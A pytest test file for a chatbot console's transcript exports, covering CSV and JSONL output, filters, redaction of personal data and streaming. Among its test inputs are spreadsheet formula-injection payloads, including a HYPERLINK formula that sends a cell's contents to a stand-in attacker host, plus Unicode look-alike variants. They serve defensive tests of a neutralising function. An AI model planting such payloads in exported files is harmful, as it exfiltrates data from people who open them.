"""Transcript exports of the seeded database, checked row by row, and each filter, the formula
neutralisation, the redaction option and the streaming."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from chatbot.conversations.models import Conversation, Message
from chatbot.exports.responses import ExportResponse
from chatbot.exports.selectors import (
    CONVERSATION_CSV_COLUMNS,
    MESSAGE_CSV_COLUMNS,
    csv_safe,
    export_chunks,
)
from tests.exports.conftest import Seed, body

DOWNLOAD = "/console/exports/download/"


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def download(client: Client, fmt: str, **params: str) -> Any:
    response = client.get(DOWNLOAD, {"format": fmt, **params})
    assert response.status_code == 200, response.content if not response.streaming else ""
    return response


@pytest.fixture
def admin_client(seed: Seed, signed_in: Callable[[Any], Client]) -> Client:
    return signed_in(seed.admin)


def test_messages_csv_holds_every_message_row_by_row(seed: Seed, admin_client: Client) -> None:
    m = seed.messages
    r, o, f = seed.returns, seed.order, seed.refund
    jane, sam, omar = str(seed.jane.public_id), str(seed.sam.public_id), str(seed.omar.public_id)

    def conv(c: Any, site: str, visitor: str, status: str) -> list[str]:
        return [str(c.pk), site, visitor, status]

    RET, ORD, REF = (
        conv(r, "shop", jane, "closed"),
        conv(o, "shop", sam, "bot"),
        conv(f, "other", omar, "waiting_human"),
    )
    none9 = [""] * 9
    expected = [
        list(MESSAGE_CSV_COLUMNS),
        [*RET, str(m["r1"].pk), "1", "customer", "", "2026-03-01T10:00:01+00:00",
         "Hi, how do I return shoes? Mail me at jane@example.com", *none9, "0.1", "neutral", "", ""],
        [*RET, str(m["r2"].pk), "2", "bot", "", "2026-03-01T10:00:02+00:00", "Send them back within 30 days.",
         "faq", "0.82", "answer", "FAQ match 0.82 >= 0.45", "7", "retrieval:minilm", "120", "340", "up", "", "",
         "", ""],
        [*RET, str(m["r3"].pk), "3", "customer", "", "2026-03-01T10:04:00+00:00",
         """'=HYPERLINK("http://evil.example/?x="&A1,"help")""", *none9, "-0.4", "negative", "other", "low"],
        [*RET, str(m["r4"].pk), "4", "bot", "", "2026-03-01T10:05:00+00:00", "I'll get a person to help you.",
         "human", "0.91", "handoff", "customer asked for a person", "", "retrieval:minilm", "80", "95", "", "", "",
         "", ""],
        [*RET, str(m["r5"].pk), "5", "system", "", "2026-03-01T10:06:00+00:00", "Olivia joined the chat.",
         *none9, "", "", "", ""],
        [*RET, str(m["r6"].pk), "6", "operator", "Olivia", "2026-03-01T10:07:00+00:00",
         "'+44 20 7946 0958 is our returns line, or pay with 4111 1111 1111 1111", *none9, "", "", "", ""],
        [*ORD, str(m["o1"].pk), "1", "customer", "", "2026-03-03T09:00:01+00:00",
         "Where is order LL-2024-000123? Call (555) 123-4567", *none9, "", "", "", ""],
        [*ORD, str(m["o2"].pk), "2", "bot", "", "2026-03-03T09:00:02+00:00", "Which one do you mean?",
         "order_status", "0.55", "clarify", "two close matches", "3;4", "retrieval:minilm", "50", "60", "", "", "",
         "", ""],
        [*REF, str(m["f1"].pk), "1", "customer", "", "2026-03-02T12:00:01+00:00", "'@everyone I want a refund",
         *none9, "-0.7", "negative", "refund", "medium"],
        [*REF, str(m["f2"].pk), "2", "bot", "", "2026-03-02T12:00:02+00:00", "Let me find someone.",
         "refund", "0.7", "handoff", "oos p=0.82", "", "retrieval:minilm", "", "", "", "", "", "", ""],
    ]  # fmt: skip
    text_at = MESSAGE_CSV_COLUMNS.index("text")
    for row in expected[1:]:
        row.insert(text_at + 1, "")  # language: the seeded messages were stored without one
    assert rows(body(download(admin_client, "messages.csv"))) == expected


def test_conversations_csv_holds_a_row_per_conversation(seed: Seed, admin_client: Client) -> None:
    r, o, f = seed.returns, seed.order, seed.refund
    expected = [
        list(CONVERSATION_CSV_COLUMNS),
        [str(r.pk), "shop", str(seed.jane.public_id), "closed", "2026-03-01T10:00:00+00:00",
         "2026-03-01T10:30:00+00:00", "6", "2026-03-01T10:05:00+00:00", "2026-03-01T10:07:00+00:00", "Olivia",
         "5", "0.6", "positive", "other", "low", "https://shop.example.com/returns?email=jane@example.com",
         "Hi, how do I return shoes? Mail me at jane@example.com"],
        [str(o.pk), "shop", str(seed.sam.public_id), "bot", "2026-03-03T09:00:00+00:00", "", "2", "", "", "",
         "", "", "", "", "", "", "Where is order LL-2024-000123? Call (555) 123-4567"],
        [str(f.pk), "other", str(seed.omar.public_id), "waiting_human", "2026-03-02T12:00:00+00:00", "", "2", "",
         "", "", "", "-0.7", "negative", "refund", "medium", "", "'@everyone I want a refund"],
    ]  # fmt: skip
    for row in expected[1:]:
        row.insert(CONVERSATION_CSV_COLUMNS.index("language"), "")  # the seeded conversations have none
    assert rows(body(download(admin_client, "conversations.csv"))) == expected


def test_both_csv_exports_carry_the_complaint_category_and_severity_after_the_sentiment() -> None:
    assert MESSAGE_CSV_COLUMNS[-4:] == ("sentiment", "sentiment_label", "complaint_category", "complaint_severity")
    assert CONVERSATION_CSV_COLUMNS[-6:] == (
        "sentiment",
        "sentiment_label",
        "complaint_category",
        "complaint_severity",
        "page_url",
        "first_customer_message",
    )


def test_an_assignee_without_a_display_name_is_shown_by_full_name_then_username(
    seed: Seed, admin_client: Client
) -> None:
    seed.olivia.operator.display_name = ""
    seed.olivia.operator.save()
    assignee = CONVERSATION_CSV_COLUMNS.index("assignee")
    assert rows(body(download(admin_client, "conversations.csv")))[1][assignee] == "olivia"
    seed.olivia.first_name, seed.olivia.last_name = "Olivia", "Berg"
    seed.olivia.save()
    assert rows(body(download(admin_client, "conversations.csv")))[1][assignee] == "Olivia Berg"


def test_messages_jsonl_has_every_message_with_the_bots_decisions(seed: Seed, admin_client: Client) -> None:
    m = seed.messages
    lines = body(download(admin_client, "messages.jsonl")).splitlines()
    records = [json.loads(line) for line in lines]

    def record(message: Any, conversation: Any, site: str, visitor: Any, **fields: Any) -> dict[str, Any]:
        base = {
            "conversation_id": conversation.pk,
            "site": site,
            "visitor": str(visitor.public_id),
            "conversation_status": conversation.status,
            "csat": conversation.csat,
            "message_id": message.pk,
            "seq": message.seq,
            "sender": message.sender,
            "author_name": None,
            "created_at": message.created_at.isoformat(),
            "text": message.text,
            "language": None,
            "intent": None,
            "confidence": None,
            "sources": [],
            "decision": None,
            "decision_reason": None,
            "model_version": None,
            "timings": {},
            "feedback": None,
            "sentiment": None,
            "sentiment_label": None,
            "complaint_category": None,
            "complaint_severity": None,
        }
        assert set(fields) <= set(base)
        return {**base, **fields}

    returns = (seed.returns, "shop", seed.jane)
    order = (seed.order, "shop", seed.sam)
    refund = (seed.refund, "other", seed.omar)
    assert records == [
        record(m["r1"], *returns, sentiment=0.1, sentiment_label="neutral"),
        record(
            m["r2"],
            *returns,
            intent="faq",
            confidence=0.82,
            sources=[{"id": 7, "question": "How do I return an item?", "score": 0.82}],
            decision="answer",
            decision_reason="FAQ match 0.82 >= 0.45",
            model_version="retrieval:minilm",
            timings={"first_token": 120, "total": 340},
            feedback="up",
        ),
        record(
            m["r3"],
            *returns,
            sentiment=-0.4,
            sentiment_label="negative",
            complaint_category="other",
            complaint_severity="low",
        ),
        record(
            m["r4"],
            *returns,
            intent="human",
            confidence=0.91,
            decision="handoff",
            decision_reason="customer asked for a person",
            model_version="retrieval:minilm",
            timings={"first_token": 80, "total": 95},
        ),
        record(m["r5"], *returns),
        record(m["r6"], *returns, author_name="Olivia"),
        record(m["o1"], *order),
        record(
            m["o2"],
            *order,
            intent="order_status",
            confidence=0.55,
            sources=[
                {"id": 3, "question": "Where is my order?", "score": 0.55},
                {"id": 4, "question": "Track", "score": 0.54},
            ],
            decision="clarify",
            decision_reason="two close matches",
            model_version="retrieval:minilm",
            timings={"first_token": 50, "total": 60},
        ),
        record(
            m["f1"],
            *refund,
            sentiment=-0.7,
            sentiment_label="negative",
            complaint_category="refund",
            complaint_severity="medium",
        ),
        record(
            m["f2"],
            *refund,
            intent="refund",
            confidence=0.7,
            decision="handoff",
            decision_reason="oos p=0.82",
            model_version="retrieval:minilm",
        ),
    ]
    assert records[0]["csat"] == 5 and records[0]["created_at"] == "2026-03-01T10:00:01+00:00"


def conversation_ids(client: Client, **params: str) -> tuple[list[int], list[int]]:
    """The conversations in the conversations CSV, and those the messages JSONL has messages of."""
    in_csv = [int(row[0]) for row in rows(body(download(client, "conversations.csv", **params)))[1:]]
    in_jsonl = [
        json.loads(line)["conversation_id"] for line in body(download(client, "messages.jsonl", **params)).splitlines()
    ]
    return in_csv, sorted(set(in_jsonl))


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({}, ["returns", "order", "refund"]),
        ({"site": "shop"}, ["returns", "order"]),
        ({"site": "other"}, ["refund"]),
        ({"from": "2026-03-02"}, ["order", "refund"]),
        ({"to": "2026-03-01"}, ["returns"]),
        ({"from": "2026-03-02", "to": "2026-03-02"}, ["refund"]),
        ({"from": "2026-03-04"}, []),
        ({"status": "closed"}, ["returns"]),
        ({"status": "waiting_human"}, ["refund"]),
        ({"status": "human"}, []),
        ({"intent": "faq"}, ["returns"]),
        ({"intent": "order_status"}, ["order"]),
        ({"intent": "refund"}, ["refund"]),
        ({"intent": "nonexistent"}, []),
        ({"sentiment": "negative"}, ["refund"]),
        ({"sentiment": "positive"}, ["returns"]),
        ({"site": "shop", "sentiment": "negative"}, []),
        ({"site": "shop", "from": "2026-03-02", "intent": "order_status", "status": "bot"}, ["order"]),
    ],
)
def test_each_filter_selects_its_conversations(
    seed: Seed, admin_client: Client, params: dict[str, str], expected: list[str]
) -> None:
    ids = sorted(getattr(seed, name).pk for name in expected)
    in_csv, in_jsonl = conversation_ids(admin_client, **params)
    assert sorted(in_csv) == ids
    assert in_jsonl == ids


def test_an_intent_filter_matches_bot_replies_not_customer_messages(seed: Seed, admin_client: Client) -> None:
    seed.messages["o1"].intent = "refund"
    seed.messages["o1"].save()
    in_csv, _ = conversation_ids(admin_client, intent="refund")
    assert in_csv == [seed.refund.pk]


def test_an_empty_export_still_has_its_header(seed: Seed, admin_client: Client) -> None:
    assert rows(body(download(admin_client, "messages.csv", status="human"))) == [list(MESSAGE_CSV_COLUMNS)]
    assert body(download(admin_client, "messages.jsonl", status="human")) == ""


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        # Unicode look-alikes of = + - @ (full-width, small forms, minus signs), and blanks or
        # invisible characters before one: some spreadsheets fold or skip them.
        ('\uff1dHYPERLINK("http://evil.example")', '\'\uff1dHYPERLINK("http://evil.example")'),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\u22121+2", "'\u22121+2"),
        ("\u207b1", "'\u207b1"),
        ("\ufe62x", "'\ufe62x"),
        ("\ufe63x", "'\ufe63x"),
        ("\ufe66x", "'\ufe66x"),
        ("\ufe6bx", "'\ufe6bx"),
        (" =1", "' =1"),
        ("\u3000\uff1d1", "'\u3000\uff1d1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff@x", "'\ufeff@x"),
        ("\x00\x1f=1", "'\x00\x1f=1"),
        ("\n-1", "'\n-1"),
        ("  plain", "  plain"),
        ("\uff21=1", "\uff21=1"),
        ("\u3000", "\u3000"),
        ("", ""),
        (-0.4, -0.4),
        (None, None),
    ],
)
def test_cells_that_start_like_a_formula_are_neutralised(value: Any, expected: Any) -> None:
    assert csv_safe(value) == expected


def test_formula_cells_from_customers_are_neutralised_in_both_csv_exports(seed: Seed, admin_client: Client) -> None:
    messages_csv = rows(body(download(admin_client, "messages.csv")))
    texts = [row[MESSAGE_CSV_COLUMNS.index("text")] for row in messages_csv[1:]]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert texts[2].startswith("'=HYPERLINK(")
    conversations_csv = rows(body(download(admin_client, "conversations.csv")))
    assert conversations_csv[3][-1] == "'@everyone I want a refund"
    # JSON Lines are not opened by spreadsheets: the text stays as the customer wrote it.
    jsonl = [json.loads(line) for line in body(download(admin_client, "messages.jsonl")).splitlines()]
    assert jsonl[2]["text"].startswith("=HYPERLINK(")


def test_redaction_replaces_emails_phones_and_cards_only_when_asked(seed: Seed, admin_client: Client) -> None:
    plain = body(download(admin_client, "messages.csv"))
    assert "jane@example.com" in plain and "+44 20 7946 0958" in plain and "4111 1111 1111 1111" in plain

    for fmt in ("messages.csv", "messages.jsonl", "conversations.csv"):
        redacted = body(download(admin_client, fmt, redact="1"))
        for secret in ("jane@example.com", "7946 0958", "4111 1111", "123-4567"):
            assert secret not in redacted, (fmt, secret)
        assert "LL-2024-000123" in redacted  # an order number is not personal data

    texts = [
        json.loads(line)["text"] for line in body(download(admin_client, "messages.jsonl", redact="1")).splitlines()
    ]
    assert texts[0] == "Hi, how do I return shoes? Mail me at [email]"
    assert texts[5] == "[phone] is our returns line, or pay with [card]"
    assert texts[6] == "Where is order LL-2024-000123? Call [phone]"
    conversations = rows(body(download(admin_client, "conversations.csv", redact="1")))
    assert conversations[1][-2:] == [
        "https://shop.example.com/returns?email=[email]",
        "Hi, how do I return shoes? Mail me at [email]",
    ]


def test_a_download_is_a_streamed_attachment_named_by_site_kind_and_date(seed: Seed, admin_client: Client) -> None:
    response = download(admin_client, "messages.csv", site="shop")
    assert isinstance(response, ExportResponse)
    assert response.streaming
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="shop-messages-{today}.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    jsonl = download(admin_client, "messages.jsonl")
    assert jsonl["Content-Disposition"] == f'attachment; filename="messages-{today}.jsonl"'
    assert jsonl["Content-Type"] == "application/x-ndjson; charset=utf-8"


def test_nothing_is_read_from_the_database_before_the_response_is_consumed(
    seed: Seed, admin_client: Client, django_assert_max_num_queries: Any
) -> None:
    response = download(admin_client, "messages.csv")
    with django_assert_max_num_queries(1):  # then the export is one query, however many rows
        assert len(rows(body(response))) == 11


def test_blocks_are_made_of_whole_lines_of_about_the_block_size() -> None:
    lines = [f"line {i:05d}\n" for i in range(10_000)]  # 11 bytes each
    blocks = list(export_chunks(iter(lines), size=1000))
    assert b"".join(blocks).decode() == "".join(lines)
    assert all(block.endswith(b"\n") for block in blocks)
    assert all(1000 <= len(block) < 1011 for block in blocks[:-1])


def test_download_needs_a_format(seed: Seed, admin_client: Client) -> None:
    response = admin_client.get(DOWNLOAD, {"format": "xlsx"})
    assert response.status_code == 400
    assert b"Choose what to export" in response.content


def test_exports_carry_each_message_and_conversations_language(seed: Seed, admin_client: Client) -> None:
    Message.objects.filter(pk=seed.messages["r1"].pk).update(language="zh-hans")
    Conversation.objects.filter(pk=seed.returns.pk).update(language="zh-hans")
    messages = rows(body(download(admin_client, "messages.csv")))
    language_at = MESSAGE_CSV_COLUMNS.index("language")
    by_id = {row[MESSAGE_CSV_COLUMNS.index("message_id")]: row[language_at] for row in messages[1:]}
    assert by_id[str(seed.messages["r1"].pk)] == "zh-hans" and by_id[str(seed.messages["r2"].pk)] == ""
    records = [json.loads(line) for line in body(download(admin_client, "messages.jsonl")).splitlines()]
    assert next(r for r in records if r["message_id"] == seed.messages["r1"].pk)["language"] == "zh-hans"
    conversations = rows(body(download(admin_client, "conversations.csv")))
    language_of = {row[0]: row[CONVERSATION_CSV_COLUMNS.index("language")] for row in conversations[1:]}
    assert language_of[str(seed.returns.pk)] == "zh-hans" and language_of[str(seed.order.pk)] == ""
